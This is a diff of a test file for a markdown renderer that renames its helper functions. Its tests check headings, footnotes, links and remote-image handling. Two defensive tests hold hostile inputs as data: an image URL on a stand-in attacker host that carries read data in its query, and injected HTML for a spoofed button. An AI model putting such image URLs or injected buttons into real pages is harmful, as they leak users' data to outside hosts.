@@ -1,10 +1,10 @@
 import { expect, test } from "vitest";
 import { renderFull } from "@/lib/markdown/full.mjs";
 import { renderSimple } from "@/lib/markdown/simple.mjs";
-import { elementsOf } from "./html-tree";
+import { listElements } from "./html-tree";
 
-const attributesOf = (html: string, name: string) =>
-  elementsOf(html)
+const listAttributes = (html: string, name: string) =>
+  listElements(html)
     .filter((element) => element.name === name)
     .map((element) => element.properties);
 
@@ -16,11 +16,11 @@ test("rendering: headings go one level down, to h6 at most, and are listed with 
     { depth: 6, id: "user-content-deep", text: "Deep" },
     { depth: 2, id: "user-content-raw", text: "Raw" },
   ]);
-  expect(elementsOf(html).map(({ name }) => name)).toEqual(["h2", "em", "h3", "h6", "h2", "h2"]);
+  expect(listElements(html).map(({ name }) => name)).toEqual(["h2", "em", "h3", "h6", "h2", "h2"]);
 });
 
 test("rendering: a link to a heading leads to its id", () => {
-  const [link] = attributesOf(renderFull("[go](#a-b)\n\n# A b").html, "a");
+  const [link] = listAttributes(renderFull("[go](#a-b)\n\n# A b").html, "a");
   expect(link).toEqual({ href: "#user-content-a-b" });
 });
 
@@ -32,17 +32,17 @@ test("rendering: both renderings name headings alike", () => {
 
 test("rendering: footnotes lead to their note and back", () => {
   const { html, headings } = renderFull("Text[^n].\n\n[^n]: The note.\n\n# Last");
-  const [call, back] = attributesOf(html, "a");
-  const [note] = attributesOf(html, "li");
+  const [call, back] = listAttributes(html, "a");
+  const [note] = listAttributes(html, "li");
   expect(call?.href).toBe(`#${note?.id}`);
   expect(back?.href).toBe(`#${call?.id}`);
-  const [label] = attributesOf(html, "h2").filter(({ className }) => className);
+  const [label] = listAttributes(html, "h2").filter(({ className }) => className);
   expect(call?.ariaDescribedBy).toEqual([label?.id]);
   expect(headings.map(({ text }) => text)).toEqual(["Last"]);
 });
 
 test("rendering: task lists are named check boxes that cannot be used", () => {
-  const boxes = attributesOf(renderFull("- [ ] a\n- [x] b\n").html, "input");
+  const boxes = listAttributes(renderFull("- [ ] a\n- [x] b\n").html, "input");
   expect(boxes).toEqual([
     { type: "checkbox", disabled: true, ariaLabel: "To do" },
     { type: "checkbox", disabled: true, checked: true, ariaLabel: "Done" },
@@ -82,7 +82,7 @@ test("rendering: code is coloured by its language", () => {
 
 test("rendering: code in an unknown language or in none is left alone", () => {
   const { html } = renderFull("```nonsense\n<b>\n```\n\n    plain\n");
-  expect(elementsOf(html).map(({ name }) => name)).toEqual(["pre", "code", "pre", "code"]);
+  expect(listElements(html).map(({ name }) => name)).toEqual(["pre", "code", "pre", "code"]);
 });
 
 test.each([
@@ -92,7 +92,7 @@ test.each([
   const { html } = render(
     "[a](https://example.com) [b](//example.com) [c](/in) [d](mailto:a@example.com) [e](in#x)",
   );
-  expect(attributesOf(html, "a").map(({ rel }) => rel)).toEqual([
+  expect(listAttributes(html, "a").map(({ rel }) => rel)).toEqual([
     ["nofollow", "noopener", "ugc"],
     ["nofollow", "noopener", "ugc"],
     undefined,
@@ -111,7 +111,7 @@ test.each([
       "![kept](https://example.com/a.png) ![one](http://example.com/a.png) ![two](//example.com/a.png) ![three](a.png) ![four](data:image/png;base64,AAAA)",
       ["example.com"],
     );
-    expect(attributesOf(html, "img")).toEqual([
+    expect(listAttributes(html, "img")).toEqual([
       {
         src: "https://example.com/a.png",
         alt: "kept",
@@ -133,8 +133,8 @@ test.each([
       '![a "b"](https://user@Evil.Example:8443/?q=what+it+read) ![c](https://example.com/c.png)';
     const { html } = render(markdown, ["example.com", "evil.example"]);
     expect(html).not.toContain("q=what");
-    expect(attributesOf(html, "img")).toMatchObject([{ src: "https://example.com/c.png" }]);
-    expect(attributesOf(html, "button")).toEqual([
+    expect(listAttributes(html, "img")).toMatchObject([{ src: "https://example.com/c.png" }]);
+    expect(listAttributes(html, "button")).toEqual([
       {
         type: "submit",
         form: "remote-images",
@@ -151,9 +151,9 @@ test.each([
 test.each([
   ["full", renderFull],
   ["simple", renderSimple],
-])("rendering: a text cannot bring a button of its own in the %s rendering", (_, render) => {
+])("rendering: a text cannot add its own button in the %s rendering", (_, render) => {
   const own = '<button form="remote-images" name="host" value="evil.example">Next page</button>';
-  expect(attributesOf(render(own).html, "button")).toEqual([]);
+  expect(listAttributes(render(own).html, "button")).toEqual([]);
 });
 
 test("rendering: harmless HTML stays, and its ids cannot be those of the page", () => {
@@ -168,6 +168,6 @@ test.each([
   ["simple", renderSimple],
 ])("rendering: the keyboard reaches code and tables in the %s rendering", (_, render) => {
   const { html } = render("```js\na\n```\n\n    b\n\n| c |\n| - |\n");
-  const reached = elementsOf(html).filter(({ properties }) => properties.tabIndex === 0);
+  const reached = listElements(html).filter(({ properties }) => properties.tabIndex === 0);
   expect(reached.map(({ name }) => name)).toEqual(["pre", "pre", "table"]);
 });
